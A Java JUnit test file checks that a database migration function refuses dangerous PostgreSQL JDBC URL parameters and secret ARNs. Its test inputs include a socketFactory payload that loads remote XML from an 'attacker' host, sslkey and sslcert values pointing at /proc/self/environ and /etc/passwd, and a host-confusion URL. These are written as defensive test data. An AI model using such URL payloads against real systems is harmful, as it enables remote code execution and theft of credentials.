package io.sluice.function;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.sql.Connection;
import java.sql.ResultSet;
import java.sql.Statement;
import java.time.Duration;
import java.util.List;

import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;

import io.sluice.error.InvalidRequest;
import io.sluice.event.DatabaseTarget;
import io.sluice.migration.DatabaseConnector;
import io.sluice.testing.PostgresServer;
import io.sluice.testing.Sluice;
import io.sluice.testing.TestDatabase;

/**
 * A JDBC URL is read, not passed to the driver: each parameter the security review found reaching it (classes it
 * loads, files it reads) is sent as an attacker would, in an event through the real {@code migrate} handler, and
 * refused by name before any connection, the database untouched. The parameters Sluice takes still work.
 */
class TargetGateTest {

    private static final ObjectMapper JSON = new ObjectMapper();

    private TestDatabase db;

    @BeforeEach
    void database() {
        db = PostgresServer.get().newDatabase();
    }

    private JsonNode migrate(String jdbcUrl, DatabaseTargets targets) throws Exception {
        ObjectNode event = JSON.createObjectNode().put("deploymentId", "release-9").put("migrations", "classpath:db/migration");
        ObjectNode database = JSON.readValue(db.targetJson(), ObjectNode.class).put("jdbcUrl", jdbcUrl);
        event.set("database", database);
        MigrateFunction function = new MigrateFunction(Sluice.migrate(), new FunctionBoundary(new EventCodec(),
                new io.sluice.metrics.InvocationMetrics(io.sluice.metrics.MetricsSink.NONE), DatabaseSecrets.NONE,
                MigrationBundles.NONE, Notifications.NONE, FullReports.NONE, targets));
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        function.handleRequest(new ByteArrayInputStream(event.toString().getBytes(StandardCharsets.UTF_8)), out, null);
        return JSON.readTree(out.toByteArray());
    }

    @ParameterizedTest
    @ValueSource(strings = {
        "socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext&socketFactoryArg=http://attacker/x.xml",
        "sslfactory=org.postgresql.ssl.NonValidatingFactory",
        "sslhostnameverifier=com.example.AcceptAll",
        "sslpasswordcallback=com.example.Callback",
        "authenticationPluginClassName=com.example.Plugin",
        "sslkey=/proc/self/environ",
        "sslcert=/etc/passwd",
        "service=live",
        "loggerFile=/tmp/sluice-log",
        "SSLMODE=disable",
        "sslmode=disable&socketFactory=javax.net.DefaultSocketFactory"})
    void aParameterSluiceDoesNotTake_isRefusedByName_beforeAnyConnection(String parameters) {
        String url = db.jdbcUrl() + "?" + parameters;
        String named = parameters.contains("&socketFactory=") ? "socketFactory" : parameters.substring(0, parameters.indexOf('='));

        assertThatThrownBy(() -> migrate(url, DatabaseTargets.LOCAL)).isInstanceOf(InvalidRequest.class)
                .hasMessage("field 'database.jdbcUrl' has the parameter '" + named + "', which Sluice does not pass to the driver; it"
                        + " takes sslmode, sslrootcert, ApplicationName, connectTimeout, socketTimeout, tcpKeepAlive, targetServerType only");
        assertThat(db.tableExists("flyway_schema_history")).isFalse();
    }

    @Test
    void credentialsInTheUrl_badValues_andAnotherShape_areRefused() {
        assertThatThrownBy(() -> migrate(db.jdbcUrl() + "?Password=x", DatabaseTargets.LOCAL)).isInstanceOf(InvalidRequest.class)
                .hasMessage("field 'database.jdbcUrl' must not carry user or password parameters; put them in 'database.username'"
                        + " and 'database.password'");
        assertThatThrownBy(() -> migrate(db.jdbcUrl() + "?sslmode=whatever", DatabaseTargets.LOCAL)).isInstanceOf(InvalidRequest.class)
                .hasMessage("field 'database.jdbcUrl' has sslmode=whatever; sslmode is one of allow, disable, prefer, require, verify-ca,"
                        + " verify-full");
        assertThatThrownBy(() -> migrate(db.jdbcUrl() + "?connectTimeout=5&connectTimeout=0", DatabaseTargets.LOCAL))
                .isInstanceOf(InvalidRequest.class).hasMessage("field 'database.jdbcUrl' has the parameter 'connectTimeout' twice");
        assertThatThrownBy(() -> migrate("jdbc:postgresql://evil.example:5432@127.0.0.1/db", DatabaseTargets.LOCAL))
                .isInstanceOf(InvalidRequest.class)
                .hasMessage("field 'database.jdbcUrl' must look like jdbc:postgresql://host:port/dbname[?options]");
        assertThat(db.tableExists("flyway_schema_history")).isFalse();
    }

    @Test
    void anSslRootCertOutsideTheFileRoots_isRefused_evenWhereEventsMayCarryCredentials() {
        DatabaseTargets local = new DatabaseTargets(true, List.of(), List.of("target"));

        assertThatThrownBy(() -> migrate(db.jdbcUrl() + "?sslmode=verify-full&sslrootcert=/etc/passwd", local))
                .isInstanceOf(InvalidRequest.class)
                .hasMessageStartingWith("field 'database.jdbcUrl sslrootcert': filesystem:/etc/passwd is outside the folders this"
                        + " function may read");
        assertThat(db.tableExists("flyway_schema_history")).isFalse();
    }

    @Test
    void whereEventsMayNotCarryCredentials_aUrlUserAndPassword_areRefused_andAnotherSecretToo() {
        DatabaseTargets deployed = new DatabaseTargets(false,
                List.of("arn:aws:secretsmanager:eu-west-1:123456789012:secret:rds!db-1f2e-AbCdEf"), List.of("."));

        assertThatThrownBy(() -> migrate(db.jdbcUrl(), deployed)).isInstanceOf(InvalidRequest.class)
                .hasMessage("field 'database': this deployment takes its database from Secrets Manager only; give {\"secretArn\": ...}."
                        + " An event's jdbcUrl, username and password are refused (sluice.database.event-credentials is false), so"
                        + " that no password passes through an execution's history or a log");
        assertThatThrownBy(() -> deployed.check(DatabaseTarget.fromSecret("arn:aws:secretsmanager:eu-west-1:123456789012:secret:other")))
                .isInstanceOf(InvalidRequest.class)
                .hasMessage("field 'database.secretArn': arn:aws:secretsmanager:eu-west-1:123456789012:secret:other is not a secret this"
                        + " deployment may use (sluice.database.allowed-secrets: arn:aws:secretsmanager:eu-west-1:123456789012:secret:"
                        + "rds!db-1f2e-AbCdEf)");
        deployed.check(DatabaseTarget.fromSecret("arn:aws:secretsmanager:eu-west-1:123456789012:secret:rds!db-1f2e-AbCdEf"));
        // A name is resolved in the function's own account and region and outlives its secret: it never stands for a
        // listed ARN (the attacker review reached unlisted secrets this way).
        for (String name : List.of("rds!db-1f2e-AbCdEf", "rds!db-1f2e", "rds!db",
                "arn:aws:secretsmanager:eu-west-1:123456789012:secret:rds!db-1f2e")) {
            assertThatThrownBy(() -> deployed.check(DatabaseTarget.fromSecret(name))).as(name)
                    .isInstanceOf(InvalidRequest.class).hasMessageStartingWith("field 'database.secretArn': " + name + " is not a secret");
        }
        assertThat(db.tableExists("flyway_schema_history")).isFalse();
    }

    @Test
    void theParametersSluiceTakes_reachTheConnection() throws Exception {
        String url = db.jdbcUrl() + "?sslmode=disable&ApplicationName=release%2042&connectTimeout=3&socketTimeout=30"
                + "&tcpKeepAlive=true&targetServerType=primary";

        assertThat(migrate(url, DatabaseTargets.LOCAL).get("status").asText()).isEqualTo("MIGRATED");
        DatabaseTarget target = new DatabaseTarget(url, db.target().username(), db.target().password());
        try (Connection connection = new DatabaseConnector(Duration.ofSeconds(5), Duration.ofSeconds(10)).open(target, Duration.ZERO);
                Statement statement = connection.createStatement();
                ResultSet rs = statement.executeQuery("SELECT current_setting('application_name'), current_database()")) {
            rs.next();
            assertThat(rs.getString(1)).isEqualTo("release 42");
            assertThat(rs.getString(2)).isEqualTo(db.name());
        }
    }
}
